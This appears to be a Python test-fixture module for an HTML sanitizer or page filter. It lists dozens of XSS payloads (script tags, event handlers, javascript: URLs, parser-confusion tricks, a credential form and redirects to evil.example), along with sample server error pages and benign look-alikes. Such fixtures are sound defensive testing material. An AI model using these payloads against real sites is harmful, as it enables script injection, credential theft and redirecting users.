"""Known ways to make HTML run something, and pages of servers that are no content."""

PICTURE = "/content/files/0192a3b4-0000-7000-8000-000000000001/"

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{PICTURE}" alt="a" onload="alert(1)">',
    "<img src='javascript:alert(1)'>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">看看这篇通知</a>',
    '<a href="JaVaScRiPt:alert(1)">看看这篇通知</a>',
    '<a href="&#106;avascript:alert(1)">看看这篇通知</a>',
    '<a href="java\nscript:alert(1)">看看这篇通知</a>',
    '<a href="java&#x09;script:alert(1)">看看这篇通知</a>',
    '<a href=" \x01javascript:alert(1)">看看这篇通知</a>',
    '<a href="vbscript:msgbox(1)">看看这篇通知</a>',
    '<a href="data:text/html,<script>alert(1)</script>">看看这篇通知</a>',
    '<a href="//evil.example/">看看这篇通知</a>',
    '<a href="/\\evil.example/">看看这篇通知</a>',
    '<a href="\\\\evil.example/">看看这篇通知</a>',
    '<a href="https://good.example@evil.example/">看看这篇通知</a>',
    '<a href="x" target=_blank onclick=alert(1)>看看这篇通知</a>',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=password><button>登录</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;top:0;background:url(javascript:alert(1))'>盖住整页</p>",
    "<p class='yw-button' id='main'>像按钮</p>",
    "<p onclick=alert(1)>点我</p>",
    "<div onmouseover='alert(1)'>移到这里</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&lt;p&gt;好&lt;/p&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;&amp;lt;p&amp;gt;",
    "&amp;amp;lt;p onclick=alert(1)&amp;amp;gt;",
    "&#60;p&#62;&#60;img src=x onerror=alert(1)&#62;",
    "<table><td background='javascript:alert(1)'>格</td></table>",
    "<a><p><a href='javascript:alert(1)'>看看这篇通知",
    "<p>\u202e倒过来的字</p>",
    "<p>a\x00b<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    "<p>&#0;&#x1;&#8238;</p>",
]

WRONG_PAGES = {
    "nginx": [
        "<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n"
        "<hr><center>nginx/1.18.0 (Ubuntu)</center>\r\n</body>\r\n</html>",
        "<html><head><title>502 Bad Gateway</title></head><body bgcolor='white'><center><h1>502 Bad Gateway</h1>"
        "</center><hr><center>openresty</center></body></html>",
        "&lt;html&gt;&lt;head&gt;&lt;title&gt;403 Forbidden&lt;/title&gt;&lt;/head&gt;&lt;body&gt;&lt;p&gt;",
    ],
    "iis": [
        "<!DOCTYPE html><html><head><title>找不到资源。</title></head><body><h1>“/”应用程序中的服务器错误。<hr></h1>",
        "<html><head><title>IIS 10.0 详细错误 - 404.0 - Not Found</title></head><h3>HTTP 错误 404.0 - Not Found</h3>",
        "<div><h2>404 - 找不到文件或目录。</h2><h3>您要查找的资源可能已被删除。</h3></div>",
        "<b>Server Error in '/' Application.</b>",
    ],
    "tomcat": [
        "<!doctype html><html lang='zh'><head><title>HTTP状态 404 - 未找到</title></head><body>"
        "<h1>HTTP状态 404 - 未找到</h1><hr/><h3>Apache Tomcat/9.0.37</h3></body></html>",
        "<html><head><title>HTTP Status 500 – Internal Server Error</title></head>",
        "<h2>Error 404--Not Found</h2><p>From RFC 2068</p>",
    ],
    "spring": [
        "<html><body><h1>Whitelabel Error Page</h1><p>This application has no explicit mapping for /error</p>",
        '{"timestamp":"2023-05-11T02:11:09.331+00:00","status":500,"error":"Internal Server Error","path":"/item"}',
    ],
    "apache": [
        "<html><head><title>Not here</title></head><body><h1>Not Found</h1><p>The requested URL /a was not found on"
        " this server.</p><hr><address>Apache/2.4.6 (CentOS) Server at x Port 80</address></body></html>",
    ],
    "firewall": [
        "<html><head><title>网站防火墙</title></head><body>您的请求带有不合法参数，已被网站管理员设置拦截！</body></html>",
        "<script>document.cookie='__jsl_clearance=1'</script>",
        '<html><body><iframe src="https://errors.aliyun.com/error?eventid=1"></iframe></body></html>',
    ],
    "login": [
        "<html><head><title>统一身份认证平台</title></head><body><form><input name=u><input type='password'></form>",
        "<form action='/cas/login'><input type=password name=p></form>",
    ],
    "program": [
        "java.lang.NullPointerException: null at cn.gov.item.Service.find(Service.java:31)",
        'Traceback (most recent call last):\n  File "x.py"',
        "<b>Fatal error</b>: Uncaught Error in /var/x.php on line 3",
        '{"errCode":500,"msg":"系统异常","result":null}',
    ],
    "gone": [
        "<html><head><title>页面不存在</title></head><body>您访问的页面走丢了</body></html>",
        "<html><body><h1>404</h1></body></html>",
        "<!DOCTYPE html><html><head><title>系统出错</title></head><body>请联系管理员</body></html>",
    ],
}

NO_WRONG_PAGES = [
    "<p>登录广东政务服务网，点击“用户登录”，输入密码后提交申请。</p>",
    "<h2>在线办理</h2><p>如果网页提示404，请稍后再试。</p>",
    "<p>办公地址：徐城街道404号；服务热线12345。</p>",
    "<html><head><title>关于公布2026年办事指南的通知</title></head><body><p>各镇街：</p></body></html>",
    "404号文件规定的条件。",
    "<p>申请系统（System）出错时，请到窗口办理。</p>",
    "<h1>500万元以下的项目</h1><p>由县发展改革局备案。</p>",
    "<p>Apache 许可证、nginx 软件采购项目的招标公告。</p>",
    '{"status":1,"title":"好"}',
]
